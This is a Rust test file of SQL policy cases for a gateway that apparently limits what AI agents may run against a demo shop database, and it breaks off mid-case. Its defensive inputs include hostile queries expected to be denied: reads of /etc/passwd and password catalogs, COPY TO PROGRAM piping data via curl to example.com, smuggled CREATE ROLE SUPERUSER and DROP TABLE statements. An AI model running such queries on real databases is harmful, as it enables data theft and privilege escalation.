//! Table-driven policy cases: (agent, SQL) → "allow" or the reason code of
//! the denial. Offline: the shipped rules, tests/rules and a hand-built
//! catalog of the demo shop (tests/common/policy.rs).
//!
//! An expectation is `"allow"`, one reason code, several reason codes
//! separated by `|` (any of them), or `"deny"` (any denial at all, for
//! syntax whose fate depends on the parser: it must never be allowed).
//!
//! The attack classes come from SECURITY.md; each is covered by several
//! variants, not just its textbook example. Semantics were checked against
//! PostgreSQL 15 where the difference matters (noted at the case).

mod common;

use common::policy::outcome;

/// Whether `got` satisfies `expected` (see the module comment).
fn matches(expected: &str, got: &str) -> bool {
    match expected {
        "deny" => got != "allow",
        _ => expected.split('|').any(|e| e == got),
    }
}

/// Runs a table and reports every mismatch at once.
fn check(cases: &[(&str, &str, &str)]) {
    let mut failures = Vec::new();
    for (agent, sql, expected) in cases {
        let got = outcome(agent, sql);
        if !matches(expected, &got) {
            failures.push(format!(
                "  [{agent}] {sql}\n      expected {expected}, got {got}"
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

const A: &str = "analytics";
const S: &str = "support-desk";
const T: &str = "tester";

#[test]
fn basics() {
    check(&[
        (A, "SELECT 1", "allow"),
        (A, "select id, status from orders", "allow"),
        (A, "SELECT * FROM orders", "allow"),
        (A, "SELECT * FROM staff_users", "table_denied"),
        (A, "SELECT * FROM payment_methods", "table_denied"),
        (
            A,
            "DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (A, "SELECT * FROM customers", "column_denied"),
        (A, "SELECT id, country FROM customers", "allow"),
        (A, "SELECT email FROM customers", "column_denied"),
        (
            S,
            "UPDATE orders SET status = 'shipped' WHERE id = 1",
            "allow",
        ),
        (S, "UPDATE orders SET status = 'shipped'", "missing_where"),
        (
            S,
            "UPDATE orders SET total_cents = 0 WHERE id = 1",
            "column_denied",
        ),
        (
            S,
            "DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (S, "SELECT pg_sleep(10)", "function_not_allowed"),
        (A, "SELECT * FROM pg_authid", "credential_catalog"),
        (A, "SELECT oid FROM pg_type", "allow"),
        (A, "selec 1", "parse_error"),
    ]);
}

/// Unquoted names fold to lower case; quoted names are exact (SECURITY:
/// "Case and quoting").
#[test]
fn case_and_quoting() {
    check(&[
        (A, "SELECT * FROM ORDERS", "allow"),
        (A, "SELECT * FROM Orders", "allow"),
        (A, r#"SELECT * FROM "orders""#, "allow"),
        (A, r#"SELECT * FROM "Orders""#, "table_not_allowed"),
        (A, r#"SELECT * FROM "ORDERS""#, "table_not_allowed"),
        (A, "SELECT * FROM STAFF_USERS", "table_denied"),
        (A, "SELECT * FROM Staff_Users", "table_denied"),
        (A, r#"SELECT * FROM "staff_users""#, "table_denied"),
        // A different (nonexistent) table: no rule allows it.
        (A, r#"SELECT * FROM "Staff_Users""#, "table_not_allowed"),
        (A, "SELECT * FROM PAYMENT_METHODS", "table_denied"),
        (A, "SELECT EMAIL FROM customers", "column_denied"),
        (A, r#"SELECT "email" FROM customers"#, "column_denied"),
        (A, "SELECT C.EMAIL FROM CUSTOMERS C", "column_denied"),
        (A, r#"SELECT "c".email FROM customers c"#, "column_denied"),
        (
            A,
            r#"SELECT c."email" FROM customers AS c"#,
            "column_denied",
        ),
        (A, "SELECT COUNTRY, LOYALTY_TIER FROM CUSTOMERS", "allow"),
        (A, r#"SELECT "country" FROM "customers""#, "allow"),
        // An alias named like an allowed table does not launder a denied one.
        (A, "SELECT * FROM staff_users AS orders", "table_denied"),
        (
            A,
            "SELECT orders.username FROM staff_users orders",
            "table_denied",
        ),
        (
            S,
            r#"INSERT INTO "Refunds" (order_id) VALUES (1)"#,
            "table_not_allowed",
        ),
        (
            S,
            r#"UPDATE "ORDERS" SET status = 'x' WHERE id = 1"#,
            "table_not_allowed",
        ),
        (S, "UPDATE ORDERS SET STATUS = 'x' WHERE ID = 1", "allow"),
        (
            S,
            r#"UPDATE orders SET "total_cents" = 0 WHERE id = 1"#,
            "column_denied",
        ),
        // Unicode-escaped identifiers are rejected syntax: fail closed.
        (A, r#"SELECT * FROM U&"staff_users""#, "deny"),
        (A, r#"SELECT * FROM U&"\0073taff_users""#, "deny"),
    ]);
}

#[test]
fn schema_qualified_names() {
    check(&[
        (A, "SELECT * FROM public.orders", "allow"),
        (A, "SELECT * FROM PUBLIC.ORDERS", "allow"),
        (A, r#"SELECT * FROM "public"."orders""#, "allow"),
        (A, "SELECT * FROM shop.public.orders", "allow"),
        (A, "SELECT o.id FROM shop.public.orders o", "allow"),
        (A, "SELECT * FROM public.staff_users", "table_denied"),
        (A, r#"SELECT * FROM "public"."staff_users""#, "table_denied"),
        (A, r#"SELECT * FROM "public".staff_users"#, "table_denied"),
        (A, "SELECT * FROM shop.public.staff_users", "table_denied"),
        (
            A,
            "SELECT * FROM SHOP.PUBLIC.PAYMENT_METHODS",
            "table_denied",
        ),
        (
            A,
            r#"SELECT * FROM public."Staff_Users""#,
            "table_not_allowed",
        ),
        // Another database: Postgres refuses cross-database references.
        (A, "SELECT * FROM otherdb.public.orders", "deny"),
        (A, "SELECT * FROM a.b.c.d", "deny"),
        (A, "SELECT * FROM ONLY staff_users", "table_denied"),
        (A, "SELECT count(*) FROM ONLY orders", "allow"),
        (A, "SELECT * FROM staff_users*", "deny"),
        // Other schemas have no rules.
        (A, "SELECT * FROM pg_temp.orders", "table_not_allowed"),
        (A, "SELECT * FROM audit.orders", "table_not_allowed"),
        (
            A,
            "SELECT * FROM pg_catalog.pg_authid",
            "credential_catalog",
        ),
        (
            A,
            "SELECT * FROM PG_CATALOG.PG_AUTHID",
            "credential_catalog",
        ),
        (
            A,
            r#"SELECT * FROM "pg_catalog"."pg_authid""#,
            "credential_catalog",
        ),
        (A, "SELECT rolname FROM pg_authid", "credential_catalog"),
        (
            A,
            "SELECT * FROM shop.pg_catalog.pg_shadow",
            "credential_catalog",
        ),
        (A, "SELECT email FROM public.customers", "column_denied"),
        (
            A,
            "SELECT public.customers.email FROM public.customers",
            "column_denied",
        ),
        (
            A,
            "SELECT customers.email FROM public.customers",
            "column_denied",
        ),
        (A, "SELECT public.customers.country FROM customers", "allow"),
        // Postgres reads `a.b.c` as schema.table.column even when a FROM item
        // is called `public` (checked on PG 15: returns the e-mail address).
        (
            A,
            "SELECT public.customers.email FROM customers, (SELECT 1) AS public",
            "column_denied",
        ),
        // database.schema.table.column (checked on PG 15: returns the e-mail).
        (
            A,
            "SELECT shop.public.customers.email FROM customers",
            "column_denied",
        ),
        (
            A,
            "SELECT shop.public.customers.country FROM customers",
            "allow",
        ),
        (
            S,
            "UPDATE public.orders SET status = 'x' WHERE id = 1",
            "allow",
        ),
        (
            S,
            "UPDATE shop.public.orders SET status = 'x' WHERE id = 1",
            "allow",
        ),
        (
            S,
            "UPDATE public.staff_users SET role = 'admin' WHERE id = 1",
            "table_denied",
        ),
    ]);
}

/// CTE names shadow tables only where Postgres says they do.
#[test]
fn cte_shadowing() {
    check(&[
        (
            A,
            "WITH staff_users AS (SELECT 1 AS x) SELECT * FROM staff_users",
            "allow",
        ),
        (
            A,
            "WITH secret AS (SELECT * FROM staff_users) SELECT * FROM secret",
            "table_denied",
        ),
        (
            A,
            "WITH orders AS (SELECT * FROM staff_users) SELECT * FROM orders",
            "table_denied",
        ),
        // Non-recursive: the inner name is the real table.
        (
            A,
            "WITH staff_users AS (SELECT * FROM staff_users) SELECT * FROM staff_users",
            "table_denied",
        ),
        // A later CTE is not visible to an earlier one.
        (
            A,
            "WITH a AS (SELECT * FROM staff_users), staff_users AS (SELECT 1 AS x) SELECT * FROM a",
            "table_denied",
        ),
        (
            A,
            "WITH staff_users AS (SELECT 1 AS x) SELECT * FROM public.staff_users",
            "table_denied",
        ),
        (
            A,
            r#"WITH "Staff_Users" AS (SELECT 1 AS x) SELECT * FROM staff_users"#,
            "table_denied",
        ),
        (
            A,
            r#"WITH STAFF_USERS AS (SELECT 1 AS x) SELECT * FROM "staff_users""#,
            "allow",
        ),
        (
            A,
            r#"WITH staff_users AS (SELECT 1 AS x) SELECT * FROM "STAFF_USERS""#,
            "table_not_allowed",
        ),
        // A CTE's scope ends with its query.
        (
            A,
            "SELECT * FROM (WITH staff_users AS (SELECT 1 AS x) SELECT * FROM staff_users) a, staff_users",
            "table_denied",
        ),
        (
            A,
            "SELECT (WITH staff_users AS (SELECT 1 AS x) SELECT x FROM staff_users), (SELECT count(*) FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "WITH staff_users AS (SELECT 1 AS id) SELECT * FROM orders WHERE id IN (SELECT id FROM staff_users)",
            "allow",
        ),
        (
            A,
            "WITH x AS (WITH staff_users AS (SELECT 1 AS y) SELECT * FROM staff_users) SELECT * FROM x",
            "allow",
        ),
        (
            A,
            "WITH RECURSIVE staff_users(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM staff_users WHERE n < 3) SELECT * FROM staff_users",
            "allow",
        ),
        (
            A,
            "WITH x AS (SELECT email FROM customers) SELECT count(*) FROM x",
            "column_denied",
        ),
        (
            A,
            "WITH x AS MATERIALIZED (SELECT id FROM orders) SELECT * FROM x",
            "allow",
        ),
        (
            A,
            "WITH x(a) AS (SELECT id FROM orders) SELECT a FROM x",
            "allow",
        ),
        (
            S,
            "WITH staff_users AS (SELECT 1 AS id) UPDATE orders SET status = 'x' FROM staff_users WHERE orders.id = staff_users.id",
            "allow",
        ),
        // The target of INSERT/UPDATE/DELETE is always a real table.
        (
            S,
            "WITH staff_users AS (SELECT 1 AS x) INSERT INTO staff_users (username) VALUES ('evil')",
            "table_denied",
        ),
        (
            S,
            "WITH staff_users AS (SELECT 1 AS id) UPDATE staff_users SET role = 'admin' WHERE id = 1",
            "table_denied",
        ),
        (
            S,
            "WITH refunds AS (SELECT 1 AS x) INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'x', 'kpatel')",
            "allow",
        ),
        (
            A,
            "WITH orders AS (SELECT 1 AS id) DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
    ]);
}

/// `WITH d AS (DELETE …) SELECT …` writes (SECURITY: "Read-only" that writes).
#[test]
fn writable_ctes() {
    check(&[
        (
            A,
            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
            "statement_class_denied",
        ),
        (
            A,
            "WITH u AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING id) SELECT * FROM u",
            "statement_class_denied",
        ),
        (
            A,
            "WITH i AS (INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 1, 'x', 'kpatel') RETURNING id) SELECT * FROM i",
            "statement_class_denied",
        ),
        (
            A,
            "WITH d AS (DELETE FROM orders WHERE id = 1) SELECT 1",
            "statement_class_denied",
        ),
        (
            S,
            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
            "statement_class_denied",
        ),
        (
            S,
            "WITH u AS (UPDATE orders SET status = 'x' WHERE id = 1 RETURNING id) SELECT * FROM u",
            "allow",
        ),
        (
            S,
            "WITH u AS (UPDATE orders SET status = 'x' RETURNING id) SELECT * FROM u",
            "missing_where",
        ),
        (
            S,
            "WITH u AS (UPDATE orders SET customer_id = 2 WHERE id = 1 RETURNING id) SELECT * FROM u",
            "column_denied",
        ),
        (
            S,
            "WITH i AS (INSERT INTO refunds (order_id, amount_cents, reason, created_by) VALUES (1, 100, 'late', 'kpatel') RETURNING id) SELECT * FROM i",
            "allow",
        ),
        (
            S,
            "WITH d AS (DELETE FROM staff_users WHERE id = 1 RETURNING *) SELECT 1",
            "table_denied",
        ),
        (
            T,
            "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
            "allow",
        ),
    ]);
}

/// `TABLE x` as a query body (SECURITY: not reported by visit_relations).
#[test]
fn table_query_forms() {
    check(&[
        (A, "TABLE staff_users", "deny"),
        // Top-level TABLE is rejected syntax (SECURITY).
        (A, "TABLE orders", "parse_error"),
        (A, "SELECT * FROM (TABLE staff_users) s", "table_denied"),
        (A, "SELECT 1 UNION ALL TABLE staff_users", "table_denied"),
        (
            A,
            "WITH c AS (TABLE staff_users) SELECT * FROM c",
            "table_denied",
        ),
        (
            A,
            "SELECT * FROM (TABLE public.staff_users) s",
            "table_denied",
        ),
        (A, "SELECT * FROM (TABLE payment_methods) p", "table_denied"),
        (A, "SELECT * FROM (TABLE pg_authid) a", "credential_catalog"),
        (
            A,
            "SELECT id FROM orders WHERE id IN (TABLE staff_users)",
            "table_denied",
        ),
        (A, "SELECT EXISTS (TABLE staff_users)", "table_denied"),
        (
            A,
            "SELECT id FROM orders UNION (TABLE staff_users)",
            "table_denied",
        ),
        (A, "SELECT * FROM (TABLE orders) o", "allow"),
        (
            A,
            "SELECT id FROM orders UNION TABLE refunds",
            "column_denied",
        ),
        // TABLE reads every column.
        (A, "SELECT * FROM (TABLE customers) c", "column_denied"),
        (
            A,
            "SELECT count(*) FROM (TABLE customers) c",
            "column_denied",
        ),
        (
            A,
            r#"SELECT * FROM (TABLE "Orders") o"#,
            "table_not_allowed",
        ),
        (
            A,
            r#"SELECT * FROM (TABLE "staff_users") o"#,
            "table_denied",
        ),
        (
            A,
            "WITH staff_users AS (SELECT 1 AS x) SELECT * FROM (TABLE staff_users) s",
            "allow",
        ),
        (
            S,
            "INSERT INTO refunds (order_id, amount_cents, reason, created_by) TABLE staff_users",
            "table_denied",
        ),
    ]);
}

/// Functions in FROM are functions, not relations; LATERAL sees the left side.
#[test]
fn table_functions_and_lateral() {
    check(&[
        (
            A,
            "SELECT * FROM pg_read_file('/etc/passwd')",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd') AS f(x)",
            "function_not_allowed",
        ),
        (A, "SELECT * FROM PG_LS_DIR('.')", "function_not_allowed"),
        (
            A,
            "SELECT * FROM dblink('dbname=shop', 'SELECT password_hash FROM staff_users') AS t(h text)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT * FROM public.dblink('dbname=shop', 'SELECT 1') AS t(x int)",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT * FROM query_to_xml('SELECT * FROM staff_users', true, false, '') AS x",
            "function_not_allowed",
        ),
        (A, "SELECT * FROM staff_users()", "function_not_allowed"),
        (A, "SELECT * FROM generate_series(1, 10)", "allow"),
        (A, "SELECT g FROM generate_series(1, 10) AS g", "allow"),
        (A, "SELECT * FROM unnest(ARRAY[1, 2, 3]) AS u(x)", "allow"),
        (A, "SELECT x FROM unnest(ARRAY['a', 'b']) x", "allow"),
        (
            A,
            "SELECT * FROM unnest(ARRAY['a', 'b']) WITH ORDINALITY AS t(v, n)",
            "allow",
        ),
        (A, "SELECT * FROM json_each('{\"a\": 1}'::json)", "allow"),
        (
            A,
            "SELECT * FROM jsonb_array_elements('[1, 2]'::jsonb) AS e",
            "allow",
        ),
        (
            A,
            "SELECT * FROM regexp_split_to_table('a,b', ',') AS t",
            "allow",
        ),
        (
            A,
            "SELECT o.id, g FROM orders o, LATERAL generate_series(1, o.id::int) AS g",
            "allow",
        ),
        (
            A,
            "SELECT o.id, x.n FROM orders o CROSS JOIN LATERAL (SELECT count(*) AS n FROM order_items i WHERE i.order_id = o.id) x",
            "allow",
        ),
        (
            A,
            "SELECT o.id, x.country FROM orders o LEFT JOIN LATERAL (SELECT country FROM customers c WHERE c.id = o.customer_id) x ON true",
            "allow",
        ),
        (
            A,
            "SELECT o.id, x.email FROM orders o LEFT JOIN LATERAL (SELECT email FROM customers c WHERE c.id = o.customer_id) x ON true",
            "column_denied",
        ),
        (
            A,
            "SELECT o.id, s.username FROM orders o CROSS JOIN LATERAL (SELECT username FROM staff_users) s",
            "table_denied",
        ),
        (
            A,
            "SELECT o.id FROM orders o, LATERAL (SELECT pg_sleep(1)) s",
            "function_not_allowed",
        ),
        (
            A,
            "SELECT * FROM orders o, LATERAL pg_ls_dir(o.notes) AS f",
            "function_not_allowed",
        ),
        // Rejected syntax fails closed.
        (
            A,
            "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.')) AS t(a, b)",
            "deny",
        ),
    ]);
}

/// Allowed and denied tables together, and subqueries in every position.
#[test]
fn joins_and_subqueries() {
    check(&[
        (
            A,
            "SELECT o.id FROM orders o JOIN staff_users s ON s.id = o.id",
            "table_denied",
        ),
        (
            A,
            "SELECT o.id FROM orders o LEFT JOIN payment_methods p ON p.customer_id = o.customer_id",
            "table_denied",
        ),
        (
            A,
            "SELECT count(*) FROM orders, staff_users",
            "table_denied",
        ),
        (
            A,
            "SELECT count(*) FROM orders CROSS JOIN staff_users",
            "table_denied",
        ),
        (
            A,
            "SELECT o.id FROM (orders o JOIN staff_users s ON true)",
            "table_denied",
        ),
        (
            A,
            "SELECT o.id FROM orders o FULL JOIN (SELECT id FROM staff_users) s ON s.id = o.id",
            "table_denied",
        ),
        (
            A,
            "SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id",
            "column_denied",
        ),
        (
            A,
            "SELECT o.* FROM orders o JOIN customers c ON c.id = o.customer_id",
            "allow",
        ),
        (
            A,
            "SELECT o.*, c.country FROM orders o JOIN customers c ON c.id = o.customer_id",
            "allow",
        ),
        (
            A,
            "SELECT email FROM orders JOIN customers ON customers.id = orders.customer_id",
            "column_denied",
        ),
        (
            A,
            "SELECT o.id FROM orders o JOIN customers c ON c.email = o.notes",
            "column_denied",
        ),
        (
            A,
            "SELECT email FROM (customers JOIN orders ON orders.customer_id = customers.id)",
            "column_denied",
        ),
        (
            A,
            "SELECT j.email FROM (customers JOIN orders ON orders.customer_id = customers.id) AS j",
            "column_denied",
        ),
        (
            A,
            "SELECT j.* FROM (orders JOIN customers ON customers.id = orders.customer_id) AS j",
            "column_denied",
        ),
        (
            A,
            "SELECT s.e FROM (SELECT email AS e FROM customers) s",
            "column_denied",
        ),
        (
            A,
            "SELECT country FROM (SELECT * FROM customers) s",
            "column_denied",
        ),
        // Select list, WHERE, HAVING, ORDER BY, LIMIT, OFFSET, VALUES, FILTER, …
        (
            A,
            "SELECT (SELECT max(password_hash) FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders WHERE customer_id IN (SELECT customer_id FROM payment_methods)",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders WHERE 'admin' = ANY (SELECT role FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "SELECT status FROM orders GROUP BY status HAVING count(*) > (SELECT count(*) FROM payment_methods)",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders ORDER BY (SELECT max(password_hash) FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders LIMIT (SELECT count(*) FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders OFFSET (SELECT count(*) FROM staff_users)",
            "table_denied",
        ),
        // PG accepts a subquery here; sqlparser does not (fails closed).
        (
            A,
            "SELECT id FROM orders FETCH FIRST (SELECT count(*) FROM staff_users) ROWS ONLY",
            "table_denied|parse_error",
        ),
        (
            A,
            "VALUES ((SELECT password_hash FROM staff_users LIMIT 1))",
            "table_denied",
        ),
        (
            A,
            "SELECT * FROM (VALUES ((SELECT username FROM staff_users LIMIT 1))) v(x)",
            "table_denied",
        ),
        (
            A,
            "SELECT count(*) FILTER (WHERE id IN (SELECT id FROM staff_users)) FROM orders",
            "table_denied",
        ),
        (
            A,
            "SELECT status FROM orders GROUP BY status, (SELECT 1 FROM staff_users LIMIT 1)",
            "table_denied",
        ),
        (
            A,
            "SELECT row_number() OVER (ORDER BY (SELECT 1 FROM staff_users LIMIT 1)) FROM orders",
            "table_denied",
        ),
        (
            A,
            "SELECT o.id FROM orders o JOIN order_items i ON i.order_id = o.id AND EXISTS (SELECT 1 FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "SELECT CASE WHEN EXISTS (SELECT 1 FROM staff_users WHERE role = 'admin') THEN 1 END",
            "table_denied",
        ),
        (
            A,
            "SELECT coalesce((SELECT email FROM customers LIMIT 1), 'x')",
            "column_denied",
        ),
        (
            A,
            "SELECT ARRAY(SELECT username FROM staff_users)",
            "table_denied",
        ),
        (
            A,
            "SELECT DISTINCT ON ((SELECT 1 FROM staff_users LIMIT 1)) id FROM orders",
            "table_denied",
        ),
        (
            A,
            "SELECT string_agg(status, ',' ORDER BY (SELECT 1 FROM staff_users LIMIT 1)) FROM orders",
            "table_denied",
        ),
        (
            A,
            "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY (SELECT count(*) FROM staff_users)) FROM orders",
            "table_denied",
        ),
        (
            A,
            "SELECT CAST((SELECT password_hash FROM staff_users LIMIT 1) AS text)",
            "table_denied",
        ),
        (
            A,
            "SELECT (SELECT to_jsonb(s) FROM staff_users s LIMIT 1) ->> 'password_hash'",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders WHERE notes LIKE (SELECT username FROM staff_users LIMIT 1)",
            "table_denied",
        ),
        (
            A,
            "SELECT extract(year FROM (SELECT max(last_login_at) FROM staff_users))",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders UNION SELECT id FROM orders ORDER BY (SELECT 1 FROM staff_users LIMIT 1)",
            "table_denied",
        ),
        (
            A,
            "SELECT id FROM orders WHERE (id, status) IN (SELECT id, role FROM staff_users)",
            "table_denied",
        ),
        // Correlated subqueries see the outer columns.
        (
            A,
            "SELECT (SELECT count(*) FROM orders o WHERE o.notes = c.email) FROM customers c",
            "column_denied",
        ),
        (
            A,
            "SELECT (SELECT count(*) FROM orders WHERE notes = email) FROM customers",
            "column_denied",
        ),
        (A, "SELECT (SELECT email) FROM customers", "column_denied"),
        (
            A,
            "SELECT count(*) FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND c.email LIKE 'a%')",
            "column_denied",
        ),
        (
            A,
            "SELECT country FROM customers WHERE email LIKE '%@example.com'",
            "column_denied",
        ),
        (
            A,
            "SELECT country FROM customers ORDER BY full_name",
            "column_denied",
        ),
        (
            A,
            "SELECT country FROM customers GROUP BY country HAVING max(phone) IS NOT NULL",
            "column_denied",
        ),
        // TABLESAMPLE arguments are expressions too (PG 15 runs this subquery).
        (
            A,
            "SELECT count(*) FROM orders TABLESAMPLE BERNOULLI ((SELECT count(*) FROM staff_users))",
            "table_denied",
        ),
        // … and the cross-check must not take an unrelated CTE of the same
        // name for the real table there (PG 15: 200 rows if there is an
        // admin, 0 if not).
        (
            A,
            "SELECT count(*) FROM orders TABLESAMPLE BERNOULLI (least(100, 100 * (SELECT count(*) FROM staff_users WHERE role = 'admin'))), (WITH staff_users AS (SELECT 1 AS x) SELECT x FROM staff_users) z",
            "table_denied",
        ),
        // … nor let columns read there escape the column rules (PG 15: 50
        // rows if some e-mail starts with "ava", 0 if not).
        (
            A,
            "SELECT count(*) FROM customers TABLESAMPLE BERNOULLI (least(100, 100 * (SELECT count(*) FROM customers WHERE email LIKE 'ava%')))",
            "column_denied",
        ),
    ]);
}

/// Statements that look like reads but create, execute or write.
#[test]
fn select_into_and_explain() {
    check(&[
        (
            A,
            "SELECT * INTO orders_copy FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "SELECT id INTO TEMP t FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "SELECT id INTO UNLOGGED t FROM orders",
            "statement_class_denied",
        ),
        (
            S,
            "SELECT * INTO orders_copy FROM orders",
            "statement_class_denied",
        ),
        (A, "SELECT * INTO stolen FROM staff_users", "table_denied"),
        (T, "SELECT * INTO orders_copy FROM orders", "allow"),
        (
            T,
            "SELECT id INTO pg_catalog.evil FROM orders",
            "catalog_write",
        ),
        (
            T,
            "SELECT id INTO audit.evil FROM orders",
            "table_not_allowed",
        ),
        (
            A,
            "CREATE TABLE x AS SELECT * FROM orders",
            "statement_class_denied",
        ),
        (
            A,
            "CREATE TABLE x AS SELECT * FROM staff_users",
            "table_denied",
        ),
        // EXPLAIN without ANALYZE is judged as the statement it explains
        // (issue 12); EXPLAIN ANALYZE runs it and needs `explain`.
        (A, "EXPLAIN SELECT * FROM orders", "allow"),
        (
            A,
            "EXPLAIN ANALYZE SELECT * FROM orders",
            "statement_class_denied",
        ),
        (A, "EXPLAIN (FORMAT JSON) SELECT 1", "allow"),
        (
            A,
            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "explain analyze delete from orders",
            "statement_class_denied",
        ),
        (
            S,
            "EXPLAIN ANALYZE UPDATE orders SET status = 'x' WHERE id = 1",
            "statement_class_denied",
        ),
        (T, "EXPLAIN SELECT * FROM orders", "allow"),
        (T, "EXPLAIN ANALYZE SELECT * FROM orders", "allow"),
        (
            T,
            "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders",
            "allow",
        ),
        (
            T,
            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
            "allow",
        ),
        (T, "EXPLAIN SELECT * FROM pg_authid", "credential_catalog"),
        (
            T,
            "EXPLAIN ANALYZE SELECT nextval('orders_id_seq')",
            "function_not_allowed",
        ),
        (
            T,
            "EXPLAIN ANALYZE GRANT SELECT ON orders TO PUBLIC",
            "deny",
        ),
    ]);
}

/// COPY in every form (SECURITY: inline data, server-side endpoints).
#[test]
fn copy_forms() {
    check(&[
        // COPY … TO STDOUT is a read under the driver profile (issue 12);
        // COPY … FROM STDIN stays a write that needs `copy`.
        (A, "COPY orders TO STDOUT", "allow"),
        (A, "copy orders to stdout", "allow"),
        (S, "COPY orders TO STDOUT", "allow"),
        (S, "COPY refunds FROM STDIN", "statement_class_denied"),
        (A, "COPY (SELECT id FROM orders) TO STDOUT", "allow"),
        (
            A,
            "COPY (SELECT * FROM staff_users) TO STDOUT",
            "table_denied",
        ),
        (A, "COPY staff_users TO STDOUT", "table_denied"),
        (T, "COPY orders TO STDOUT", "allow"),
        (
            T,
            "COPY orders TO STDOUT WITH (FORMAT csv, HEADER)",
            "allow",
        ),
        (T, "COPY orders TO STDOUT WITH CSV HEADER", "allow"),
        (T, "COPY orders (id, status) TO STDOUT", "allow"),
        (T, "COPY orders FROM STDIN", "allow"),
        (T, "COPY orders FROM STDIN WITH (FORMAT csv)", "allow"),
        (T, "COPY orders (id, status) FROM STDIN", "allow"),
        (
            T,
            "COPY (SELECT id, status FROM orders WHERE id < 10) TO STDOUT",
            "allow",
        ),
        // The tester owns the public schema (no deny list): staff_users is
        // one of its tables.
        (T, "COPY (SELECT * FROM staff_users) TO STDOUT", "allow"),
        (T, "COPY staff_users TO STDOUT", "allow"),
        (
            T,
            "COPY (SELECT * FROM pg_authid) TO STDOUT",
            "credential_catalog",
        ),
        (
            T,
            "COPY pg_catalog.pg_shadow TO STDOUT",
            "credential_catalog",
        ),
        (T, "COPY audit.log FROM STDIN", "table_not_allowed"),
        (
            T,
            "COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
            "function_not_allowed",
        ),
        // Server-side files and programs: never, whatever the classes.
        (T, "COPY orders TO '/tmp/x'", "copy_server_side"),
        (T, "COPY orders FROM '/etc/passwd'", "copy_server_side"),
        (T, "COPY orders FROM PROGRAM 'id'", "copy_server_side"),
        (
            T,
            "COPY orders TO PROGRAM 'curl -d @- http://example.com'",
            "copy_server_side",
        ),
        (T, "COPY (SELECT 1) TO '/tmp/x'", "copy_server_side"),
        (A, "COPY orders TO '/tmp/x'", "copy_server_side"),
        (A, "COPY orders FROM PROGRAM 'id'", "copy_server_side"),
        (
            T,
            "COPY orders TO STDOUT; COPY orders FROM PROGRAM 'id'",
            "copy_server_side",
        ),
        // Inline data: Postgres runs what sqlparser swallows as data.
        (
            T,
            "COPY orders FROM STDIN;\n1\t2\n\\.\nDROP TABLE orders",
            "copy_inline_data|parse_error",
        ),
        (
            A,
            "COPY orders FROM STDIN;\n1\t2\n\\.\nDROP TABLE orders",
            "copy_inline_data|parse_error",
        ),
        (
            T,
            "COPY orders FROM STDIN;\n1\t2\n\\.\n",
            "copy_inline_data|parse_error",
        ),
        (
            T,
            "COPY orders FROM STDIN; CREATE ROLE evil SUPERUSER",
            "deny",
        ),
        (
            T,
            "COPY orders FROM STDIN;\nCREATE ROLE evil SUPERUSER",
            "deny",
        ),
        (
            T,
            "COPY orders TO STDOUT; CREATE ROLE evil SUPERUSER",
            "deny",
        ),
    ]);
}

/// Statement boundaries as Postgres lexes them: one denied statement
/// denies the string; comments, dollar quotes and escapes hide nothing.
#[test]
fn multi_statement_comments_and_quoting() {
    check(&[
        (
            A,
            "SELECT 1; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (
            A,
            "DELETE FROM orders WHERE id = 1; SELECT 1",
            "statement_class_denied",
        ),
        (A, "SELECT 1; SELECT * FROM staff_users", "table_denied"),
        (
            A,
            "SELECT id FROM orders; SELECT email FROM customers",
            "column_denied",
        ),
        (A, "SELECT 1; SET search_path = evil", "setting_pinned"),
        (A, "BEGIN; SELECT 1; COMMIT", "allow"),
        (
            A,
            "BEGIN READ ONLY; SELECT count(*) FROM orders; COMMIT",
            "allow",
        ),
        (
            A,
            "COMMIT; DELETE FROM orders WHERE id = 1",
            "statement_class_denied",
        ),
        (A, "SELECT 1; SELECT 2", "allow"),
        (A, "SELECT 1;", "allow"),
        (A, "SELECT 1 -- ; DROP TABLE orders", "allow"),
        (A, "SELECT 1 -- ; DROP TABLE orders\n; SELECT 2", "allow"),
        (
            A,
            "SELECT 1 --\n; DROP TABLE orders",
            "statement_class_denied",
        ),
        (A, "SELECT 1 /* ; DROP TABLE orders */", "allow"),
        (
            A,
